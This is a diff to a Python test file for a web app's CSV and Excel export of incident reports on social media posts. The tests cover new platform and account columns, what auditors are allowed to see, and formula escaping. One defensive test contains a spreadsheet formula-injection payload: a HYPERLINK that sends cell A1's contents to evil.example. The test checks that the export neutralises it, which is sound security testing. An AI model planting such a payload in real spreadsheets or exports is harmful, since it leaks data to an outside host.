@@ -32,7 +32,7 @@ def table(content: bytes, kind: str) -> list[list[str]]:
         for cell in row.iter(f"{CELL}c"):
             assert cell.get("t") == "inlineStr"
             cells[re.match(r"[A-Z]+", cell.get("r"))[0]] = "".join(cell.itertext())
-        rows.append([cells.get(chr(65 + place), "") for place in range(16)])
+        rows.append([cells.get(chr(65 + place), "") for place in range(19)])
     return rows
 
 
@@ -47,12 +47,16 @@ def test_the_file_holds_what_the_list_shows(token, sign_in, database, kind):
     heading, *rows = table(answer.content, kind)
     assert heading[0] == "Reference"
     assert [row[0] for row in rows] == [one["reference"], other["reference"]]
+    assert rows[1][5:8] == ["Instagram", "Personal account", ""]
     assert dict(zip(heading, rows[0], strict=True)) | {"Due": "", "Next": ""} == {
         "Reference": one["reference"],
         "Severity": "High",
         "Stage": "Reported",
         "Kind": "Mistake",
         "What it is": one["title"],
+        "Platform": "X",
+        "Account": "Official account",
+        "Account name": "'@EmbassyTokyo",
         "Posted": "",
         "Deleted": "",
         "Reported": "2026-11-20 09:00:00+00:00",
@@ -70,12 +74,14 @@ def test_the_file_holds_what_the_list_shows(token, sign_in, database, kind):
     assert [row[0] for row in table(staff.get(f"/api/export.{kind}").content, kind)[1:]] == [one["reference"]]
     assert table(token("outsider").get(f"/api/export.{kind}").content, kind)[1:] == []
     seen_by_auditor = table(token("auditor").get(f"/api/export.{kind}").content, kind)[1]
-    assert [seen_by_auditor[place] for place in (4, 5, 8, 9, 10, 12, 13)] == [""] * 7
+    assert [seen_by_auditor[place] for place in (4, 5, 6, 7, 8, 11, 12, 13, 15, 16)] == [""] * 10
     assert (digital.get(f"/api/export.{kind}?stage=x").status_code, digital.get("/api/export.pdf").status_code) == (
         422,
         404,
     )
     assert fields(digital.get(f"/api/export.{kind}?from=x")) == {"from"}
+    assert fields(digital.get(f"/api/export.{kind}?colour=red")) == {"colour"}
+    assert sign_in("digital").get(f"/queue/export.{kind}?colour=red").status_code == 422
     assert staff.get(f"/api/export.{kind}?desk=hr").status_code == 403
     assert sign_in("outsider").get(f"/queue/export.{kind}").status_code == 403
     with database.read() as db:
@@ -88,13 +94,13 @@ def test_the_file_holds_what_the_list_shows(token, sign_in, database, kind):
 @pytest.mark.parametrize("kind", ["csv", "xlsx"])
 def test_no_cell_begins_a_formula(token, database, kind):
     staff, digital = people(token, "staff digital")
-    case = report(staff)
-    press(digital, case, "assign", person="digital2@demo.example")
     wicked = '=HYPERLINK("https://evil.example/"&A1,"=1+1")'
+    case = report(staff, account={"type": "official", "platform": wicked, "handle": wicked})
+    press(digital, case, "assign", person="digital2@demo.example")
     with database.write() as db:
         db.execute(update(Person).where(col(Person.email) == "digital2@demo.example").values(name=wicked))
     rows = table(digital.get(f"/api/export.{kind}").content, kind)
-    assert rows[1][12] == f"'{wicked}"
+    assert [rows[1][place] for place in (5, 7, 15)] == [f"'{wicked}"] * 3
 
 
 def test_what_could_begin_a_formula_is_made_harmless():
